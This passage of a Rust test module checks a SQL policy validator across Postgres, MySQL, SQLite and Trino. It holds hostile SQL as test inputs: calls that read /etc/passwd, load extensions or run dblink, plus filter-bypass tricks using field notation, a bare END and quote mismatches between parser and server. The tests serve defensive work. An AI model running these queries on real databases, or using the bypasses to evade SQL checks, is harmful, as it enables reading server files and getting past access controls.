            .insert("postgres".into(), vec!["pg_read_file".into()]);
        let error = SqlPolicy::from_config(&config).unwrap_err();
        assert!(
            error.contains("data.sql_policy.allow_functions.postgres[0]"),
            "{error}"
        );
        config.allow_functions.clear();
        config
            .allow_functions
            .insert("oracle".into(), vec!["x".into()]);
        assert!(
            SqlPolicy::from_config(&config)
                .unwrap_err()
                .contains("unknown SQL dialect")
        );
    }
    /// PostgreSQL field notation calls functions: `(x).f` and `rel.f` run `f(x)`.
    #[test]
    fn postgres_field_notation_calls_are_checked_as_calls() {
        for sql in [
            "SELECT ('/etc/passwd'::text).pg_read_file",
            "SELECT (1::bigint).pg_advisory_lock",
            "SELECT (1::bigint).\"pg_try_advisory_lock\"",
            "SELECT ('select 1'::text).ts_stat",
            "SELECT (p).pg_read_file FROM (SELECT '/etc/passwd'::text AS p) s",
            "SELECT (s.p).pg_stat_file FROM (SELECT '/etc/passwd'::text AS p) s",
            "SELECT (ARRAY[1::bigint])[1].pg_advisory_lock",
            "SELECT (ROW(1)).pg_sleep",
            "SELECT ('s'::regclass).nextval",
            "SELECT (0.5).setseed",
            "SELECT ('/tmp/x'::text).lo_import",
            "SELECT t.dblink_exec FROM t",
            "SELECT s.t.pg_future_function FROM s.t",
            "SELECT x FROM t WHERE (x).PG_READ_FILE IS NOT NULL",
        ] {
            let reason = refused(SqlDialect::Postgres, sql, false);
            assert!(reason.contains("field notation"), "{sql}: {reason}");
        }
        for sql in [
            "SELECT t.id, t.name, s.t.created_at FROM s.t AS t",
            "SELECT (t.address).city, (r).lower FROM t, LATERAL (SELECT t.x AS r) q",
            "SELECT pg_catalog.pg_stat_activity.pid FROM pg_catalog.pg_stat_activity",
        ] {
            assert_eq!(
                check(SqlDialect::Postgres, sql, false),
                Ok(StatementClass::Read),
                "{sql}"
            );
        }
    }

    /// The parser's statement loop stops at a bare `END`; what follows must not be dropped.
    #[test]
    fn nothing_after_the_statement_is_ignored() {
        for (dialect, sql) in [
            (
                SqlDialect::Postgres,
                "SELECT 1 END, pg_read_file('/etc/passwd')",
            ),
            (SqlDialect::Mysql, "SELECT 1 END, LOAD_FILE('/etc/passwd')"),
            (SqlDialect::Sqlite, "SELECT 1 END, load_extension('x')"),
            (SqlDialect::Sqlite, "SELECT 1 END; DELETE FROM t"),
            (
                SqlDialect::Trino,
                "SELECT 1 END, * FROM TABLE(system.query(query => 'x'))",
            ),
            (SqlDialect::Postgres, "SELECT 1 end pg_sleep(10)"),
        ] {
            let reason = refused(dialect, sql, false);
            assert!(
                reason.contains("exactly one statement") || reason.contains("load_extension"),
                "{sql}: {reason}"
            );
        }
        for dialect in ALL {
            assert_eq!(
                check(dialect, "SELECT CASE WHEN a THEN 1 END FROM t;", false),
                Ok(StatementClass::Read)
            );
        }
    }

    /// Where the parser's tokenizer would end a quoted token elsewhere than the server, or
    /// see a comment the server does not, the statement is refused.
    #[test]
    fn parser_and_server_must_agree_on_quotes() {
        for (dialect, sql) in [
            // MariaDB: `b` then a "..." string with backslash escapes; the parser: a byte
            // string without them, then a `#` comment hiding the call.
            (
                SqlDialect::Mysql,
                "SELECT b\"\\\" AS x #\", LOAD_FILE('/etc/passwd') AS y\nFROM (SELECT 1 AS b) t",
            ),
            (SqlDialect::Mysql, "SELECT b\"\\\" AS x, 1 AS \"\\\""),
            (SqlDialect::Trino, "SELECT r'''a' , 1 , '''"),
        ] {
            refused(dialect, sql, false);
        }
        for (dialect, sql) in [
            (
                SqlDialect::Mysql,
                "SELECT _utf8mb4'a', N'b', X'41', 'it''s', \"q\\\"\"",
            ),
            (
                SqlDialect::Postgres,
                "SELECT E'\\'' || 'x', U&'\\0041', $a$ ' $a$, \"Q\"\"\" FROM t",
            ),
            (
                SqlDialect::Sqlite,
                "SELECT [a b], `c`, \"d\", 'e', X'41' FROM t",
            ),
            (SqlDialect::Postgres, "SELECT 'größe', \"ü\" FROM t"),
        ] {
            assert_eq!(
                check(dialect, sql, false),
                Ok(StatementClass::Read),
                "{sql}"
            );
        }
    }

    /// Long and deep statements are refused cleanly, on a 2 MiB stack like a runtime worker.
    #[test]
    fn pathological_statements_fail_cleanly() {
        let outcome = std::thread::Builder::new()
            .stack_size(2 * 1024 * 1024)
            .spawn(|| {
                let mut results = Vec::new();
                for sql in [
                    format!("SELECT 1{}", "+1".repeat(200_000)),
                    format!("SELECT 1{}", " +1".repeat(60_000)),
                    format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000)),
                    format!("SELECT * FROM {}t{}", "(".repeat(5_000), ")".repeat(5_000)),
                    format!("SELECT 1 {}", "/* a */".repeat(40_000)),
                    format!("SELECT '{}'", "x".repeat(300_000)),
                ] {
                    results.push(check(SqlDialect::Postgres, &sql, false).is_err());
                }
                // Just under the limits still works.
                let near = format!("SELECT 1{}", "+1".repeat(4_000));
                results.push(check(SqlDialect::Postgres, &near, false).is_ok());
                results
            })
            .unwrap()
            .join()
            .unwrap();
        assert!(outcome.iter().all(|ok| *ok), "{outcome:?}");
    }
}
